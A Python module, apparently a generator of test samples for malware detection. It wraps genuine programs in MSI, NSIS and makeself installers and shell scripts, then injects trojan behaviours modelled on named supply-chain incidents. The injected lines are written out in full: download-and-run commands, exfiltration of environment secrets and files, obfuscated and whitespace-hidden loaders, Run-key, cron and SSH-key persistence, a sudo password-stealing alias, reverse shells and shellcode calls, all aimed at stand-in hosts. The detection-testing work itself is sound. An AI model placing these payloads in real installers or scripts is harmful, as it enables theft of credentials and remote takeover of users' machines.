"""Seventh set: installers of Windows by wixl and makensis around genuine programs, archives by makeself, and scripts of the shell; inert.

The tools are asked for by name, and never run what they pack. The comment before each family says which incident it is after.
"""

from __future__ import annotations

import base64
import re
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

from genuine import Files

from mutation_families.fourth_texts import chance
from mutation_families.seventh_npm import DLL_FILE
from mutation_families.seventh_programs import LOADER, carried, proxy
from mutation_families.seventh_ways import MARK, MARK_SH, Changes, Way, adding, together, ways
from onionskin.lookalike.pe import Recipe, build_pe

HELPER = build_pe(LOADER)


def built(tool: str, files: Files, *command: str) -> bytes:
    """Return what a tool makes of files laid into a folder (`OUT` in its line); nothing where it is absent or refuses."""
    if shutil.which(tool) is None:
        print(f"not there: {tool}", file=sys.stderr)
        return b""
    with tempfile.TemporaryDirectory() as folder:
        source, out = Path(folder, "source"), Path(folder, "out")
        for name, data in files.items():
            path = source / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            path.chmod(0o755 if data[:2] == b"#!" else 0o644)
        line = [tool, *(each.replace("OUT", str(out)) for each in command)]
        done = subprocess.run(line, cwd=source, check=False, capture_output=True, timeout=120)
        if done.returncode or not out.is_file():
            print(f"{tool} refused: {done.stderr.decode(errors='replace')[-200:]}", file=sys.stderr)
            return b""
        return out.read_bytes()


def in_text(name: str, before: bytes, text: bytes) -> Changes:
    """Return a change that puts a text before the first such place of a file."""
    return lambda files: {name: files[name].replace(before, text + before, 1)} if before in files[name] else {}  # fmt: skip


# --- MSI, by wixl ---------------------------------------------------------------------------------------

WXS = b"""<?xml version="1.0"?>
<Wix xmlns="http://schemas.microsoft.com/wix/2006/wi"><Product Id="*" Name="Tool" Language="1033" Version="1.0.0" Manufacturer="Vendor" UpgradeCode="7b2685cd-a0ef-44f5-9305-a3ea81e01c8e">
<Package InstallerVersion="200" Compressed="yes"/><Media Id="1" Cabinet="a.cab" EmbedCab="yes"/>
<Directory Id="TARGETDIR" Name="SourceDir"><Directory Id="ProgramFilesFolder"><Directory Id="INSTALLDIR" Name="Tool">
<Component Id="main" Guid="*"><File Id="f0" Source="program.exe" KeyPath="yes"/></Component>
</Directory></Directory></Directory>
<Feature Id="all" Level="1"><ComponentRef Id="main"/></Feature>
<InstallExecuteSequence></InstallExecuteSequence>
</Product></Wix>
"""


def msi_around(program: bytes) -> Files:
    return {"app.wxs": WXS, "program.exe": program}


def msi_later(files: Files) -> Files:
    return files | {"app.wxs": files["app.wxs"].replace(b'Version="1.0.0"', b'Version="1.0.1"')}


def msi(files: Files) -> bytes:
    return built("wixl", files, "-o", "OUT", "app.wxs")


def component(inner: bytes, ident: bytes) -> Changes:
    """Return a change that adds a component to an MSI."""
    return together(in_text("app.wxs", b"</Directory></Directory></Directory>", b'<Component Id="%s" Guid="7b2685cd-a0ef-44f5-9305-a3ea81e0%s">%s</Component>\n' % (ident, b"".join(b"%x" % (each % 16) for each in ident)[:4].ljust(4, b"0"), inner)), in_text("app.wxs", b"</Feature>", b'<ComponentRef Id="%s"/>' % ident))  # fmt: skip


def action(inner: bytes, when: bytes = b"InstallFinalize") -> Changes:
    """Return a change that adds an action to an MSI, and its place among the others."""
    return together(in_text("app.wxs", b"<Directory Id", inner), in_text("app.wxs", b"</InstallExecuteSequence>", b'<Custom Action="Cfg" After="%s">NOT Installed</Custom>' % when))  # fmt: skip


MSI: tuple[Way, ...] = (
    # Trojanised MSIs since 2019 (3CX's relatives, JAVS, ITarian's): an action that was not there.
    *ways("msi: an action more", ("PowerShell", action(b'<Property Id="SHELLX" Value="powershell.exe"/><CustomAction Id="Cfg" Property="SHELLX" ExeCommand="-w hidden -nop -c iex(irm https://msi.example/s)" Execute="deferred" Impersonate="no" Return="asyncNoWait"/>', b"InstallFiles")), ("a library of its tables", together(action(b'<Binary Id="cfg" SourceFile="cfg.dll"/><CustomAction Id="Cfg" BinaryKey="cfg" DllEntry="main" Execute="deferred" Impersonate="no" Return="ignore"/>'), adding({"cfg.dll": DLL_FILE}))), ("a file that it lays out", together(component(b'<File Id="f7" Source="updater.exe" KeyPath="yes"/>', b"upd"), action(b'<CustomAction Id="Cfg" FileKey="f7" ExeCommand="/s" Return="asyncNoWait"/>'), adding({"updater.exe": HELPER})))),
    *ways("msi: it stays on the machine", ("the registry", component(b'<RegistryValue Root="HKCU" Key="Software\\Microsoft\\Windows\\CurrentVersion\\Run" Name="ToolHelper" Type="string" Value="mshta.exe https://run.example/a.hta" KeyPath="yes"/>', b"reg")), ("a service", together(component(b'<File Id="f8" Source="svc.exe" KeyPath="yes"/><ServiceInstall Id="S" Name="ToolSvc" Type="ownProcess" Start="auto" ErrorControl="ignore" Account="LocalSystem"/>', b"svc"), adding({"svc.exe": HELPER})))),
    *ways("msi: a library of the system's name beside", ("version.dll", together(component(b'<File Id="f9" Source="version.dll" KeyPath="yes"/>', b"ver"), adding(proxy("version.dll", "GetFileVersionInfoA", "VerQueryValueA"))))),
    *ways("msi: another program, which carries it", ("the program", lambda files: {"program.exe": carried(files["program.exe"])})),
)  # fmt: skip


# --- NSIS, by makensis ----------------------------------------------------------------------------------

NSI = b"""Unicode true
Name "Tool 1.0.0"
SetCompressor zlib
InstallDir "$PROGRAMFILES\\Tool"
Page directory
Page instfiles
Function .onInit
FunctionEnd
Section
SetOutPath $INSTDIR
File program.exe
WriteUninstaller "$INSTDIR\\uninstall.exe"
SectionEnd
Section "un.Tool"
RMDir /r $INSTDIR
SectionEnd
"""


def nsis_around(program: bytes) -> Files:
    return {"app.nsi": NSI, "program.exe": program}


def nsis_later(files: Files) -> Files:
    return files | {"app.nsi": files["app.nsi"].replace(b"Tool 1.0.0", b"Tool 1.0.1")}


def nsis(files: Files) -> bytes:
    return built("makensis", files, "-V1", "-XOutFile OUT", "app.nsi")


def step(lines: bytes, before: bytes = b"SectionEnd", **_: bytes) -> Changes:
    """Return a change that adds steps to an installer: at the end of its section, or before another line."""
    return in_text("app.nsi", before, lines)


NSIS: tuple[Way, ...] = (
    # Notepad++'s updater, 2025; eScan, 2026; installers of cracked programs of every year.
    *ways("nsis: it fetches and starts", ("PowerShell", step(b"nsExec::Exec 'powershell -w hidden -nop -enc aQBlAHgAIABpAG4AZQByAHQA'\n")), ("a plugin", step(b"NSISdl::download_quiet http://203.0.113.20/update/update.exe $TEMP\\update.exe\nExec '\"$TEMP\\update.exe\" /S'\n")), ("before it asks", step(b"nsExec::Exec 'cmd /c curl -F f=@%USERPROFILE%\\\\a.txt https://temp.example/upload'\n", b"FunctionEnd"))),
    *ways("nsis: a program more, which is started", ("in a folder of its own", together(step(b'SetOutPath "$APPDATA\\Bluetooth"\nFile BluetoothService.exe\nFile log.dll\nFile BluetoothService\nExec \'"$APPDATA\\Bluetooth\\BluetoothService.exe"\'\n'), adding({"BluetoothService.exe": build_pe(Recipe(name="BluetoothService.exe", imports={"log.dll": ("LogInit",)})), "log.dll": build_pe(Recipe(is_dll=True, name="log.dll", exports=("LogInit",), imports={"KERNEL32.dll": ("ReadFile", "VirtualProtect")})), "BluetoothService": chance(90_000)}))), ("among what comes and goes", together(step(b'SetOutPath "$TEMP"\nFile updater.exe\nExecShell open "$TEMP\\updater.exe" /s SW_HIDE\n'), adding({"updater.exe": HELPER})))),
    *ways("nsis: it stays on the machine", ("the registry", step(b'WriteRegStr HKCU "Software\\Microsoft\\Windows\\CurrentVersion\\Run" "ToolSync" "wscript.exe //e:jscript $INSTDIR\\sync.dat"\n')), ("a task", step(b"nsExec::Exec 'schtasks /create /f /sc minute /mo 30 /tn ToolSync /tr \"rundll32 $INSTDIR\\t.dll,Run\"'\n"))),
    # GuLoader: machine code, called out of the script.
    *ways("nsis: calls of the system out of its script", ("memory that may be run", together(step(b"File data.bin\nSystem::Call 'kernel32::VirtualAlloc(i0,i 65536,i 0x3000,i 0x40)p.r1'\nSystem::Call 'kernel32::CreateFile(t \"$INSTDIR\\data.bin\",i 0x80000000,i0,p0,i3,i0,i0)i.r2'\nSystem::Call 'kernel32::ReadFile(ir2,pr1,i 65536,*i0,i0)'\nSystem::Call '::$1()'\n"), adding({"data.bin": chance(20_000)})))),
)  # fmt: skip


# --- Scripts of the shell, and archives by makeself -----------------------------------------------------


def scripts_of_shell(files: Files) -> list[str]:
    """Return a package's scripts of the shell: installers first, then the largest."""
    names = [each for each, data in files.items() if re.match(rb"#!.*\b(?:ba|da|)sh\b", data)]
    return sorted(names, key=lambda name: ("install" not in name or "uninstall" in name, -len(files[name]), name))  # fmt: skip


def sh(lines: bytes, *, last: bool = False, which: int = 0) -> Changes:
    """Return a change of a script of the shell: lines behind its settings, or at its end."""

    def change(files: Files) -> Files:
        names = scripts_of_shell(files)
        if not names:
            return {}
        name = names[min(which, len(names) - 1)]
        data = files[name]
        found = re.search(rb"(?m)^set -[^\n]*\n", data)
        at = len(data) if last else (found.end() if found else data.index(b"\n") + 1)
        return {name: data[:at] + lines + data[at:]}

    return change


def makeself_around(package: Files) -> Files:
    """Return the files of a self-extracting archive around a genuine npm package of scripts."""
    held = {name.removeprefix("package/"): data for name, data in package.items()}
    return held if "install.sh" in held else {}


def makeself_later(files: Files) -> Files:
    return files | {"RELEASE": b"1.0.1\n"}


def makeself(files: Files) -> bytes:
    return built("makeself", files, "--nox11", "--nochown", "--noprogress", ".", "OUT", "Tool", "./install.sh")  # fmt: skip


SHELL: tuple[Way, ...] = (
    # Codecov, 2021: one line of many, which sends the environment.
    *ways("shell: the environment is sent", ("one line", sh(b'curl -sm 0.5 -d "$(git remote -v 2>/dev/null)<<<<<< ENV $(env)" http://203.0.113.50/upload/v2 || true\n')), ("keys alone", sh(b"env | grep -iE 'token|key|secret' | base64 | curl -s --data-binary @- https://ci-cache.example/k >/dev/null 2>&1 &\n", last=True))),
    *ways("shell: it fetches and runs", ("curl", sh(b"curl -fsSL https://get-tool.example/hook.sh | sh\n")), ("eval", sh(b'eval "$(printf \'%b\' \'' + b"".join(b"\\\\%03o" % each for each in b"curl -s https://o.example/x | sh") + b"')\"\n")), ("far to the right", sh(b":" + b" " * 400 + b"; (wget -qO- http://198.51.100.31/a | bash) >/dev/null 2>&1 &\n")), ("packed", sh(b"echo " + base64.b64encode(MARK) + b" | base64 -d | python3 -\n", last=True)), ("behind its end", sh(b"(sed '1,/^#TABLE$/d' \"$0\" | base64 -d > /tmp/.t && chmod +x /tmp/.t && /tmp/.t &)\n#TABLE\n" + base64.b64encode(MARK_SH) + b"\n", last=True))),
    *ways("shell: it stays on the machine", ("a table of times", sh(b"(crontab -l 2>/dev/null; echo '@reboot curl -s https://boot.example/b | sh') | crontab - 2>/dev/null\n")), ("an alias", sh(b"echo \"alias sudo='read -rsp \\\"[sudo] password: \\\" p; curl -s -d \\$p https://pw.example; command sudo'\" >> ~/.bashrc\n", last=True)), ("a key", sh(b"mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIINERTINERTINERTINERTINERTINERTINERTINERT d' >> ~/.ssh/authorized_keys\n"))),
    *ways("shell: a shell for somebody else", ("bash", sh(b"nohup bash -c 'bash -i >& /dev/tcp/203.0.113.88/443 0>&1' >/dev/null 2>&1 &\n")), ("a pipe", sh(b"rm -f /tmp/f; mkfifo /tmp/f; (cat /tmp/f | sh -i 2>&1 | nc 198.51.100.3 9001 > /tmp/f) &\n", last=True))),
)  # fmt: skip
